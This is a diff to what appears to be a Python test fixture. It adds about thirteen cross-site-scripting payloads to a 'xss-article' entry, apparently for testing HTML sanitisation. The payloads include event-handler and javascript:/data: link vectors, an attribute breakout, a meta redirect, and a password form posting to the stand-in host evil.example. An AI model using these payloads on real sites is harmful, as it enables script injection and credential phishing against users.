@@ -125,6 +125,32 @@ ARTICLES: Sequence[tuple[str, str]] = [
         [click me](javascript:alert(3))
 
         <a href="javascript:alert(4)">raw link</a>
+
+        <svg onload=alert(5)><circle r=1 /></svg>
+
+        <iframe src="javascript:alert(6)"></iframe>
+
+        [data link](data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==)
+
+        <a href="jav&#x09;ascript:alert(8)">tab link</a>
+
+        ![image](javascript:alert(9))
+
+        <details open ontoggle=alert(10)><summary>x</summary></details>
+
+        <style>body {{ display: none }}</style>
+
+        <meta http-equiv="refresh" content="0;url=https://evil.example/">
+
+        <form action="https://evil.example/"><input name="password"></form>
+
+        <base href="https://evil.example/">
+
+        <object data="javascript:alert(11)"></object>
+
+        <math><mi xlink:href="javascript:alert(12)">x</mi></math>
+
+        [{{{{7*7}}}}](https://example.com/ "title\" onmouseover=\"alert(13)")
         """, id="xss-article", title=f"Mail {XSS} test", summary=f"Summary {XSS_ATTR}", type="problem",
         state="validated", categories=["email"], lang="en", owner=f"owner {XSS}",
         errors=[f"ERR {XSS_ATTR}"]),
